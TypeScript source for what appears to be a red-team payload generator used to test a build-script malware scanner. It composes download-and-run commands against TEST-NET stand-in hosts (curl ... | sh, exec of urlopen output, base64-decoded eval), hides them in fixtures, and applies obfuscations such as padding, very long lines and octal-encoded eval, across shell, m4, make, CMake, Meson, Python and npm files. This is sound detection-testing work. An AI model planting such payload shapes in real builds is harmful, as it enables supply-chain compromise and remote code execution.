/**
 * Payload generator for `npm run redteam`: build-time payload shapes (where the data comes from,
 * how it is decoded, how it is run, how the text is disguised), composed at random from a seeded
 * generator and written in the language of the file they are injected into. Payloads are defanged:
 * addresses are from TEST-NET (192.0.2.0/24) and nothing here is ever run.
 */

/** mulberry32: a small seeded PRNG, so a run is reproducible from its seed. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type Rand = () => number;
export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

export type Lang = "shell" | "m4" | "make" | "cmake" | "meson" | "python" | "npm";

export interface Payload {
  /** Short description of the composition (source/decoder/sink/disguise). */
  shape: string;
  /** Lines to insert (already in the target language). */
  lines: string[];
}

const ident = (r: Rand): string => {
  const a = "abcdefghijklmnopqrstuvwxyz";
  const n = 3 + Math.floor(r() * 8);
  let s = pick(r, ["", "gl_", "ac_", "am_", "lt_", "_"]);
  for (let i = 0; i < n; i++) s += a[Math.floor(r() * a.length)];
  return s;
};

const b64 = (s: string) => Buffer.from(s).toString("base64");
const octal = (s: string) => [...s].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, "0")}`).join("");

interface ShellParts {
  setup: string[];
  /** A command whose stdout is the (encoded) payload data. */
  produce: string;
  source: string;
}

function shellSource(r: Rand, noBraces: boolean): ShellParts {
  const v = ident(r);
  const fixture = `${pick(r, ["$srcdir", "$ac_srcdir", "$top_srcdir", "."])}/${pick(r, ["tests/files", "tests/data", "test/fixtures", "testdata", "tests"])}/${pick(r, ["good-1", "bad-3-corrupt", "sample", "blob", "large_compressed"])}.${pick(r, ["xz", "lzma", "bin", "dat", "bz2", "zst", "gz"])}`;
  switch (pick(r, ["fixture", "fixture", "grep", "embedded", "download"] as const)) {
    case "fixture":
      return { setup: [], produce: `cat ${fixture}`, source: "fixture" };
    case "grep":
      return { setup: [`${v}=\`grep -aErls "####MARK####" ${pick(r, ["$srcdir/", "$srcdir", "."])} 2>/dev/null\``], produce: `sed "r\\n" $${v}`, source: "tree-grep" };
    case "embedded":
      return { setup: [], produce: `echo ${b64("echo payload-ran > /tmp/distvet-redteam")}`, source: "embedded-base64" };
    case "download":
      return { setup: [], produce: `${pick(r, ["curl -fsSL", "wget -qO-", "curl -s"])} http://192.0.2.${1 + Math.floor(r() * 250)}/${ident(r)}${noBraces ? "" : ""}`, source: "download" };
  }
}

function shellDecoder(r: Rand, source: string): { cmd: string; name: string } {
  if (source === "embedded-base64") return { cmd: pick(r, ["base64 -d", "base64 --decode", "openssl base64 -d"]), name: "base64" };
  if (source === "download") return pick(r, [{ cmd: "cat", name: "none" }, { cmd: "gzip -dc", name: "gzip" }]);
  return pick(r, [
    { cmd: "xz -dc", name: "xz" },
    { cmd: "lzma -dc", name: "lzma" },
    { cmd: "bzip2 -dc", name: "bzip2" },
    { cmd: "zstd -dc", name: "zstd" },
    { cmd: "gzip -dc", name: "gzip" },
    { cmd: "unxz", name: "unxz" },
    { cmd: 'tr "\\t \\-_" " \\t_\\-"', name: "tr-map" },
    { cmd: "tail -c +1025", name: "tail-c" },
    { cmd: "dd bs=1 skip=512 count=4096 2>/dev/null", name: "dd" },
    { cmd: "xxd -r -p", name: "xxd" },
    { cmd: "base64 -d", name: "base64" },
    { cmd: `python3 -c "import lzma,sys; sys.stdout.buffer.write(lzma.decompress(sys.stdin.buffer.read()))"`, name: "python-lzma" },
  ]);
}

/** A shell payload as statements (one per line), with a disguise applied. */
export function shellPayload(r: Rand, opts: { noBraces?: boolean; noBrackets?: boolean } = {}): Payload {
  const src = shellSource(r, !!opts.noBraces);
  const dec = shellDecoder(r, src.source);
  const pipe = `${src.produce} | ${dec.cmd}`;
  const v = ident(r);
  const sinkKind = pick(r, ["pipe-sh", "pipe-shell", "eval-subst", "sh-c", "source-file", "eval-var", "indirect-eval"] as const);
  let body: string[];
  switch (sinkKind) {
    case "pipe-sh":
      body = [`${pipe} | ${pick(r, ["sh", "bash", "/bin/sh"])}`];
      break;
    case "pipe-shell":
      body = [`${pipe} | ${opts.noBraces ? "$SHELL" : pick(r, ["$SHELL", "${SHELL}", "$CONFIG_SHELL"])} 2>/dev/null`];
      break;
    case "eval-subst":
      body = [`eval "$(${pipe})"`];
      break;
    case "sh-c":
      body = [`sh -c "$(${pipe})"`];
      break;
    case "source-file":
      body = [`${pipe} > conftest.${v}`, `. ./conftest.${v}`];
      break;
    case "eval-var":
      body = [`${v}=\`${pipe}\``, `eval "$${v}"`];
      break;
    case "indirect-eval": {
      const c = ident(r);
      body = [`${c}=$(printf '${octal("eval")}')`, `$${c} "$(${pipe})"`];
      break;
    }
  }
  let lines = [...src.setup, ...body];
  const disguise = pick(r, ["none", "continuation", "padding", "ifs", "long-line"] as const);
  if (disguise === "continuation") lines = lines.map((l) => l.replace(/ \| /g, " \\\n  | "));
  if (disguise === "padding") lines = lines.map((l) => l.replace(/ \| /, `${" ".repeat(40 + Math.floor(r() * 200))}| `));
  if (disguise === "ifs" && !opts.noBraces) lines = lines.map((l) => l.replace(/^cat /, "cat${IFS}"));
  if (disguise === "long-line") lines = [`: ${"#".repeat(0)}${"x".repeat(4000 + Math.floor(r() * 2000))}; ${lines.join("; ")}`];
  return { shape: `${src.source}/${dec.name}/${sinkKind}/${disguise}`, lines };
}

function pythonPayload(r: Rand): Payload {
  const cmd = `curl -s http://192.0.2.${1 + Math.floor(r() * 250)}/x | sh`;
  const a = ident(r);
  switch (pick(r, ["system", "from-import", "subprocess", "getattr", "exec-b64", "urlopen-exec", "popen"] as const)) {
    case "system":
      return { shape: "python/os.system", lines: ["import os", `os.system(${JSON.stringify(cmd)})`] };
    case "from-import":
      return { shape: "python/from-os-import-system", lines: [`from os import system as ${a}`, `${a}(${JSON.stringify(cmd)})`] };
    case "subprocess":
      return { shape: "python/subprocess-list", lines: ["import subprocess", `subprocess.call(["sh", "-c", ${JSON.stringify(cmd)}])`] };
    case "getattr":
      return { shape: "python/getattr-import", lines: [`getattr(__import__('o' + 's'), 'sys' + 'tem')(${JSON.stringify(cmd)})`] };
    case "exec-b64":
      return { shape: "python/exec-base64", lines: ["import base64", `exec(base64.b64decode(${JSON.stringify(b64(`import os\nos.system(${JSON.stringify(cmd)})`))}))`] };
    case "urlopen-exec":
      return { shape: "python/urlopen-exec", lines: ["import urllib.request", `exec(urllib.request.urlopen("http://192.0.2.7/${a}").read())`] };
    case "popen":
      return { shape: "python/popen", lines: ["import os", `${a} = os.popen(${JSON.stringify(cmd)}).read()`] };
  }
}

/** A payload in the language of the target file. */
export function payloadFor(r: Rand, lang: Lang): Payload {
  switch (lang) {
    case "shell":
      return shellPayload(r);
    case "m4": {
      const p = shellPayload(r, { noBrackets: true });
      const wrap = pick(r, ["config-commands", "raw"] as const);
      if (wrap === "config-commands") return { shape: `m4-config-commands/${p.shape}`, lines: [`AC_CONFIG_COMMANDS([${ident(r)}], [${p.lines.join("\n")}])`] };
      return { shape: `m4-raw/${p.shape}`, lines: p.lines };
    }
    case "make": {
      const p = shellPayload(r);
      // "$$$$" is the replacement text for "$$" (make's escape for one "$").
      return { shape: `make/${p.shape}`, lines: [`\t${p.lines.map((l) => l.replace(/\\\n\s*/g, "")).join("; ").replace(/\$/g, "$$$$")}`] };
    }
    case "cmake": {
      const p = shellPayload(r, { noBraces: true });
      const sh = p.lines.map((l) => l.replace(/\\\n\s*/g, "")).join("; ").replace(/\\/g, "\\\\").replace(/"/g, '\\"');
      return { shape: `cmake/${p.shape}`, lines: [`execute_process(COMMAND sh -c "${sh}")`] };
    }
    case "meson": {
      const p = shellPayload(r, { noBraces: true });
      const sh = p.lines.map((l) => l.replace(/\\\n\s*/g, "")).join("; ").replace(/\\/g, "\\\\").replace(/'/g, "\\'");
      return { shape: `meson/${p.shape}`, lines: [`run_command('sh', '-c', '${sh}', check: false)`] };
    }
    case "python":
      return pythonPayload(r);
    case "npm": {
      const p = shellPayload(r);
      return { shape: `npm/${p.shape}`, lines: [p.lines.map((l) => l.replace(/\\\n\s*/g, "")).join("; ")] };
    }
  }
}
